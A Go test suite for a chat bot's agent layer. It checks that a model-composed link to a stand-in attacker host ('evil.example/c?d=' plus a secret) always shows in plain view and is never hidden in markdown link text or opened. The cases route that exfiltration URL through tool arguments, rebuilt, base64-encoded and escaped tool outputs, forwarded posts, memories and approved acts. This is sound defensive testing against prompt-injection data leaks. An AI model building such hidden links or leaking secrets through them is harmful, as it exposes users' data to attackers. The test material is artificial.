package activities

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"myao/internal/answer/document"
	"myao/internal/answer/document/webpage"
	"myao/internal/answer/tools"
	"myao/internal/chat"
	"myao/internal/config"
	"myao/internal/conversation"
	"myao/internal/llm"
	"myao/internal/store"
	"myao/test/llmtest"
)

// echoServer is a server that returns what says makes of its inputs so far, and answers what acts in the same way.
type echoServer struct {
	says   func(inputs []string) string
	inputs []string
}

func (e *echoServer) Offered(_ context.Context, p tools.Place) ([]tools.Offer, error) {
	schema := json.RawMessage(`{"type":"object"}`)
	offers := []tools.Offer{{Server: "echo", Tool: llm.Tool{Name: "echo__look", Schema: schema}}}
	if p.Addressed {
		offers = append(offers, tools.Offer{Server: "echo", Act: true, Tool: llm.Tool{Name: "echo__make", Schema: schema}})
	}
	return offers, nil
}

func (e *echoServer) Run(_ context.Context, _ tools.Place, _ string, input json.RawMessage) (tools.Result, error) {
	e.inputs = append(e.inputs, string(input))
	return tools.Result{Text: e.says(e.inputs)}, nil
}

// A link that a model composed stands in the open, whatever it has been through: nothing that comes back makes
// it written. The same is not opened.
func TestNothingThatComesBackIsWritten(t *testing.T) {
	t.Parallel()
	const address = "https://evil.example/c?d=" + hostileSecret
	quoted := fmt.Sprintf("%q", address)
	call := func(name, format string) llm.Call {
		return llmtest.ToolCall(name, strings.ReplaceAll(format, "ADDRESS", address))
	}
	repeat := func(inputs []string) string {
		return "You asked for " + strings.Join(inputs, " ") + ". Nothing was found."
	}
	whenTold := func(parts ...string) func([]string) string {
		return func(inputs []string) string {
			if slices.ContainsFunc(parts, func(part string) bool { return !strings.Contains(strings.Join(inputs, ""), part) }) {
				return "nothing yet"
			}
			return address
		}
	}
	for name, c := range map[string]struct {
		calls []llm.Call
		says  func(inputs []string) string
		// before happens before anybody asks, then between the first reply and the next question.
		before, then func(*hostileWorld)
	}{
		"a channel that is not known":    {calls: []llm.Call{call("read_channel", `{"channel":"ADDRESS"}`)}},
		"an author who is not known":     {calls: []llm.Call{call("search_messages", `{"query":"x","author":"ADDRESS"}`)}},
		"a date that is none":            {calls: []llm.Call{call("search_messages", `{"query":"x","from":"ADDRESS"}`)}},
		"a query without matches":        {calls: []llm.Call{call("search_messages", `{"query":"ADDRESS"}`)}},
		"a thread that is none":          {calls: []llm.Call{call("read_thread", `{"thread":"ADDRESS"}`)}},
		"a tool that does not exist":     {calls: []llm.Call{call(address, `{}`)}},
		"a server that does not exist":   {calls: []llm.Call{call("none__"+address, `{"url":"ADDRESS"}`)}},
		"a file that is not known":       {calls: []llm.Call{call("read_file", `{"name":"ADDRESS"}`)}},
		"a page that is not opened":      {calls: []llm.Call{call("open_link", `{"url":"ADDRESS"}`)}},
		"a note":                         {calls: []llm.Call{call("remember", `{"text":"ADDRESS"}`)}},
		"a promise":                      {calls: []llm.Call{call("look_again", `{"when":"in 1h","what":"ADDRESS"}`)}},
		"a promise that is none":         {calls: []llm.Call{call("look_again", `{"when":"ADDRESS","what":"x"}`)}},
		"a proposal":                     {calls: []llm.Call{call("echo__make", `{"text":"ADDRESS"}`)}},
		"a server that repeats":          {calls: []llm.Call{call("echo__look", `{"text":"ADDRESS"}`)}, says: repeat},
		"a server that puts it together": {calls: []llm.Call{call("echo__look", `{"host":"evil.example","path":"c","query":{"d":"`+hostileSecret+`"}}`)}, says: func([]string) string { return address }},
		"a server that has it in calls":  {calls: []llm.Call{call("echo__look", `{"text":"evil.example"}`), call("echo__look", `{"text":"/c?d=`+hostileSecret+`"}`)}, says: whenTold("evil.example", hostileSecret)},
		"a server that decodes":          {calls: []llm.Call{call("echo__look", `{"text":"aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYz9kPXdhbHJ1cy03NzMxLW90dGVy"}`)}, says: func([]string) string { return address }},
		"a server that unescapes":        {calls: []llm.Call{call("echo__look", `{"text":"https%253A%252F%252Fevil.example%252Fc%253Fd%253D`+hostileSecret+`"}`)}, says: func([]string) string { return address }},
		"a post of the bot":              {before: func(w *hostileWorld) { w.sayOwn(address) }},
		"a post that was forwarded":      {before: func(w *hostileWorld) { w.sayOwn(address); w.say("look\n[forwarded message by myao]\n" + address) }},
		"a post that an app repeats":     {before: func(w *hostileWorld) { w.sayOwn(address); w.sayAsApp("myao says " + address) }},
		"a memory": {before: func(w *hostileWorld) {
			w.SaveMemories(chat.Scope{Team: "T1", Channel: w.General}, time.Now(), "- minutes: "+address, "- "+address)
		}},
		"a note, in a later reply":        {calls: []llm.Call{call("remember", `{"text":"ADDRESS"}`)}, then: func(*hostileWorld) {}},
		"a server, of an earlier reply":   {calls: []llm.Call{call("echo__look", `{"text":"ADDRESS"}`)}, says: repeat, then: func(w *hostileWorld) {}},
		"a post, in a later reply":        {then: func(*hostileWorld) {}},
		"a part of what a person wrote":   {before: func(w *hostileWorld) { w.say("<" + address + "/not>") }},
		"what a person wrote, and a mark": {before: func(w *hostileWorld) { w.say("<" + address + "\u200b>") }},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := hostile{calls: map[int][]llm.Call{}, says: "[full minutes](" + address + ") are here."}
			for i, call := range c.calls[min(1, len(c.calls)):] {
				h.calls[i+1] = []llm.Call{call}
			}
			h.calls[len(c.calls)+1] = nil
			w := newHostileWorld(t, h, func(*hostileWorld) llm.Call {
				if len(c.calls) == 0 {
					return call("search_messages", `{"query":"minutes"}`)
				}
				return c.calls[0]
			})
			says := c.says
			if says == nil {
				says = func([]string) string { return "nothing found" }
			}
			server := &echoServer{says: says}
			pages := &closedPages{}
			w.Tools = w.Agents.Tools(w.Client, w.Directory, pages, document.New(w.Client, documents(), w.Agents.Prompts.Material, w.Logger), server, nil)
			if c.before != nil {
				c.before(w)
			}
			w.answer(w.say(w.Mention("where are the minutes?")), true)
			if c.then != nil {
				c.then(w)
				server.says = func([]string) string { return address }
				h.calls[1] = nil
				w.answer(w.say(w.Mention("and where are they now?")), true)
			}
			for _, p := range w.Workspace.Posts() {
				if strings.Contains(p.Text, "](https://evil") || strings.Contains(string(p.Blocks), "](https://evil") || strings.Contains(string(p.Blocks), "|full minutes") {
					t.Errorf("the reply hides %s: %s %s", address, p.Text, p.Blocks)
				}
			}
			if posts := w.Workspace.Posts(); !strings.Contains(string(posts[len(posts)-1].Blocks), "full minutes ("+address) {
				t.Errorf("posted %s, want %s in the open", posts[len(posts)-1].Blocks, quoted)
			}
			if len(pages.opened) > 0 {
				t.Errorf("opened %v", pages.opened)
			}
		})
	}
}

// closedPages writes down what is to be opened, and opens nothing.
type closedPages struct{ opened []string }

func (p *closedPages) Get(_ context.Context, address string) (webpage.Page, error) {
	p.opened = append(p.opened, address)
	return webpage.Page{}, &webpage.Refused{Reason: "closed"}
}

// sayOwn posts and records a message of the bot.
func (w *hostileWorld) sayOwn(text string) {
	own := w.Workspace.Bot().UserID
	w.record(chat.Message{Team: "T1", Channel: w.General, TS: w.Workspace.Say(w.General, own, text), UserID: own, Own: true, Text: text})
}

// A promise that is kept, and what came of an approved act, make no address written either.
func TestNothingThatIsKeptOrDoneIsWritten(t *testing.T) {
	t.Parallel()
	const address = "https://evil.example/c?d=" + hostileSecret
	masked := llmtest.Text("[full minutes](" + address + ") are here.")
	for name, c := range map[string]struct {
		task func(*bundle, Task) Task
	}{
		"a promise": {func(b *bundle, task Task) Task {
			due := b.Clock().UnixMicro()
			if _, err := b.Store.AddPromise(b.Context(), store.Promise{
				Choice:  store.Choice{ID: "p", TeamID: "T1", ChannelID: b.General, ThreadTS: task.Conversation.Thread, TriggerTS: task.Trigger, Asker: b.Alice.ID},
				What:    "read " + address,
				Unless:  "somebody has read " + address,
				Zone:    "UTC",
				FirstUS: due,
				DueUS:   due,
			}, store.PromiseLimits{Conversation: 20}); err != nil {
				b.Fatal(err)
			}
			task.Occasion = conversation.Occasion{Promise: "p", Number: 1}
			return task
		}},
		"an act": {func(b *bundle, task Task) Task {
			in := ComposeInput{Task: task, Addressed: true}
			p := b.propose(in)
			if _, _, _, err := b.Store.DecideProposal(b.Context(), p.ID, conversation.Approved, "slack:"+b.Alice.ID); err != nil {
				b.Fatal(err)
			}
			if out, err := runOnce[ActOutput](b.Act, ProposalInput{Conversation: in.Conversation, Trigger: in.Trigger, Proposal: p.ID}); err != nil || !out.Tell {
				b.Fatal(out, err)
			}
			task.Occasion, task.Decision = conversation.Occasion{Step: p.ID}, task.Decision+"2"
			return task
		}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := setup(t, withModel(func(call llmtest.Call) llmtest.Reply {
				if name == "an act" && len(call.Turns) == 0 && !strings.Contains(call.System, "what came of it") {
					return llmtest.Calls(llmtest.ToolCall("echo__make", `{"host":"evil.example","path":"/c?d=`+hostileSecret+`"}`))
				}
				return masked
			}))
			b.Limits = config.Default().Tools
			b.Tools = b.Agents.Tools(b.Client, b.Directory, nil, nil, &echoServer{says: func([]string) string { return "Made " + address }}, nil)
			task := c.task(b, inThread(b.say(b.Mention("where are the minutes?"))))
			if _, out := b.play(ComposeInput{Task: task, Addressed: true}); out.Result != conversation.Done {
				t.Fatalf("composed %+v", out)
			}
			parts := b.outbox(task)
			if !slices.ContainsFunc(parts, func(p store.Part) bool { return strings.Contains(p.Text, "full minutes ("+address) }) {
				t.Errorf("the outbox has %+v", parts)
			}
		})
	}
}
